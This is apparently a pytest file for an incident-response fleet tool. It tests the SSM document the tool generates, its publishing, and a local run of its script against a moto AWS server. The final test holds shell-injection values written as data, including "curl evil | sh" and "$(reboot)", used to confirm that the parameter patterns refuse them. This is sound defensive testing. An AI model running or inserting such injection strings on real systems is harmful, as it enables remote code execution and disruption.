"""The SSM transport against moto (server mode): the document's shape, its registration, the
`send_command` call, and the document's own script run here as SSM would run it on an instance,
uploading to moto's S3, then `runbook fleet ssm-collect` bringing the results back.

moto runs nothing: `send_command` is only checked for the shape of the call. What the instance
would do is checked by running the document's script itself, with `{{ Parameter }}` replaced as
SSM replaces it and the bundle put where `aws:downloadContent` would put it.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import boto3
import pytest

from runbook.fleet.driver import AGENT
from runbook.journal import verify
from tests.conftest import EXAMPLE, RUNBOOK
from tests.moto_server import start_moto, stop_moto

pytest_plugins = ["tests.fleet_fixtures"]  # the session's wheelhouse and host venv root

BUCKET = "incident-fleet"
INSTANCE = "i-0123456789abcdef0"


@pytest.fixture(scope="module")
def moto(tmp_path_factory):
    server = start_moto(tmp_path_factory.mktemp("moto"))
    yield server
    stop_moto(server)


@pytest.fixture
def aws_env(moto, tmp_path) -> dict[str, str]:
    home = tmp_path / "aws-home"
    home.mkdir()
    env = dict(os.environ)
    for name in [k for k in env if k.startswith("AWS_")]:
        env.pop(name)
    env.update(
        HOME=str(home),
        AWS_ACCESS_KEY_ID="AKIAIOSFODNN7EXAMPLE",
        AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        AWS_DEFAULT_REGION="us-east-1",
        AWS_ENDPOINT_URL=moto.url,
        AWS_CONFIG_FILE=str(home / "config"),
        AWS_SHARED_CREDENTIALS_FILE=str(home / "credentials"),
        NO_PROXY="*",
        RUNBOOK_NO_DNS="1",
    )
    moto.reset()
    client("s3", env).create_bucket(Bucket=BUCKET)
    return env


def client(service: str, env: dict[str, str]):
    return boto3.client(
        service,
        endpoint_url=env["AWS_ENDPOINT_URL"],
        region_name=env["AWS_DEFAULT_REGION"],
        aws_access_key_id=env["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=env["AWS_SECRET_ACCESS_KEY"],
    )


def cli(env: dict[str, str], *args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(RUNBOOK), "fleet", *map(str, args)],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_the_document_and_its_registration(aws_env, wheelhouse, tmp_path):
    bundle = f"s3://{BUCKET}/runbook/bundle"
    args = ["ssm-document", "--command", "run", "--bundle", bundle, "--wheelhouse", wheelhouse]
    done = cli(aws_env, *args, "-o", tmp_path / "doc.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    doc = json.loads((tmp_path / "doc.json").read_text())
    assert doc["schemaVersion"] == "2.2"
    assert set(doc["parameters"]) == {"ResultsS3Uri", "Home", "Targets", "Playbook"}
    assert all("allowedPattern" in p for p in doc["parameters"].values())
    download, script = doc["mainSteps"]
    assert download["action"] == "aws:downloadContent"
    assert json.loads(download["inputs"]["sourceInfo"]) == {
        "path": f"https://{BUCKET}.s3.amazonaws.com/runbook/bundle/"
    }
    assert script["action"] == "aws:runShellScript"
    text = "\n".join(script["inputs"]["runCommand"])
    assert 'agent.py" run "$CONFIG"' in text and 'agent.py" upload' in text
    config = json.loads(base64.b64decode(re.search(r'b64decode\("([^"]+)"\)', text)[1]))
    wheel = next(wheelhouse.glob("runbook-*.whl"))
    assert config["wheel"] == wheel.name and config["dry_run"] is True
    assert download["inputs"]["destinationPath"].endswith(config["wheel_sha256"][:12])
    syntax = subprocess.run(["sh", "-n", "-c", text], capture_output=True, text=True)
    assert syntax.returncode == 0, syntax.stderr

    published = cli(aws_env, *args, "--publish", "runbook-run", cwd=tmp_path)
    assert published.returncode == 0, published.stderr
    assert "document runbook-run version 1" in published.stdout
    s3 = client("s3", aws_env)
    keys = {o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET)["Contents"]}
    assert keys == {f"runbook/bundle/{p.name}" for p in [*wheelhouse.iterdir(), AGENT]}
    again = cli(aws_env, *args, "--live", "--publish", "runbook-run", cwd=tmp_path)
    assert "version 2" in again.stdout, again.stderr
    ssm = client("ssm", aws_env)
    described = ssm.describe_document(Name="runbook-run")["Document"]
    assert described["DocumentType"] == "Command" and described["DefaultVersion"] == "2"
    assert {p["Name"] for p in described["Parameters"]} == set(doc["parameters"])
    live = json.loads(ssm.get_document(Name="runbook-run")["Content"])
    assert (
        '"yes": true'
        in base64.b64decode(
            re.search(
                r'b64decode\("([^"]+)"\)', "\n".join(live["mainSteps"][1]["inputs"]["runCommand"])
            )[1]
        ).decode()
    )

    sent = ssm.send_command(
        DocumentName="runbook-run",
        InstanceIds=[INSTANCE],
        Parameters={
            "ResultsS3Uri": [f"s3://{BUCKET}/runbook/results"],
            "Targets": ["/home/ec2-user/src"],
        },
        Comment="axios-2026-03 fleet remediation",
    )["Command"]
    assert sent["DocumentName"] == "runbook-run" and sent["InstanceIds"] == [INSTANCE]
    listed = ssm.list_commands(CommandId=sent["CommandId"])["Commands"]
    assert listed[0]["Parameters"]["ResultsS3Uri"] == [f"s3://{BUCKET}/runbook/results"]


def test_the_documents_script_uploads_and_collect_verifies(aws_env, wheelhouse, tmp_path):
    stage_root = tmp_path / "instance" / "var-lib"
    bundle = f"s3://{BUCKET}/runbook/bundle"
    args = ["ssm-document", "--command", "scan", "--bundle", bundle, "--wheelhouse", wheelhouse]
    args += ["--dependencies", "system", "--stage-root", stage_root]
    done = cli(aws_env, *args, "-o", tmp_path / "doc.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    doc = json.loads((tmp_path / "doc.json").read_text())
    # what aws:downloadContent does: the bundle's files in destinationPath
    stage = Path(doc["mainSteps"][0]["inputs"]["destinationPath"])
    stage.mkdir(parents=True)
    for item in [*wheelhouse.iterdir(), AGENT]:
        shutil.copy2(item, stage / item.name)
    home = tmp_path / "instance" / "home" / "ec2-user"
    shutil.copytree(EXAMPLE, home / "src" / "app", symlinks=True)
    script = "\n".join(doc["mainSteps"][1]["inputs"]["runCommand"])
    for name, value in {
        "ResultsS3Uri": f"s3://{BUCKET}/runbook/results",
        "Home": str(home),
        "Targets": str(home / "src"),
        "Playbook": "axios-2026-03",
    }.items():
        assert re.match(doc["parameters"][name]["allowedPattern"], value), name
        script = script.replace("{{ " + name + " }}", value)
    # the instance's python3.13: a Python whose site-packages hold runbook's dependencies
    bindir = tmp_path / "instance" / "bin"
    bindir.mkdir()
    (bindir / "python3.13").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (bindir / "python3.13").chmod(0o755)
    env = dict(aws_env, PATH=f"{bindir}:{aws_env['PATH']}", AWS_SSM_INSTANCE_ID=INSTANCE)
    ran = subprocess.run(
        ["sh", "-c", script], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=300
    )
    assert ran.returncode == 0, ran.stdout + ran.stderr
    said = json.loads(ran.stdout.splitlines()[0])
    assert said["ok"] and said["stage"] == "scan" and said["installed_now"]
    s3 = client("s3", aws_env)
    key = f"runbook/results/{INSTANCE}/results.tgz"
    assert s3.head_object(Bucket=BUCKET, Key=key)["ContentLength"] > 0

    out = tmp_path / "collected"
    got = cli(aws_env, "ssm-collect", f"s3://{BUCKET}/runbook/results", "--out", out, cwd=tmp_path)
    assert got.returncode == 1, got.stdout + got.stderr  # the instance is compromised
    assert f"{INSTANCE}  compromised" in got.stdout
    status = cli(aws_env, "status", out, "--format", "json", cwd=tmp_path)
    row = json.loads(status.stdout)["hosts"][0]
    assert (row["host"], row["state"]) == (INSTANCE, "compromised")
    scan = json.loads((out / INSTANCE / "scan.json").read_text())
    assert scan["schema"] == "runbook.scan/v1" and scan["affected"] is True
    assert not list(out.rglob("*.jsonl")) or all(verify(p).ok for p in out.rglob("*.jsonl"))


def test_a_parameter_that_could_break_out_of_the_script_is_refused_by_its_pattern(
    aws_env,
    wheelhouse,
    tmp_path,
):

    args = ["ssm-document", "--bundle", f"s3://{BUCKET}/b", "--wheelhouse", wheelhouse]
    doc = json.loads(cli(aws_env, *args, cwd=tmp_path).stdout)
    for name in ("Home", "Targets"):
        pattern = doc["parameters"][name]["allowedPattern"]
        assert not re.match(pattern, "/home/x'; curl evil | sh; '")
        assert not re.match(pattern, "$(reboot)")
    assert not re.match(doc["parameters"]["ResultsS3Uri"]["allowedPattern"], "s3://b/x' y")
    bad = cli(aws_env, *args, "--stage-root", "/tmp/x'y", cwd=tmp_path)
    assert bad.returncode == 2 and "--stage-root" in bad.stderr
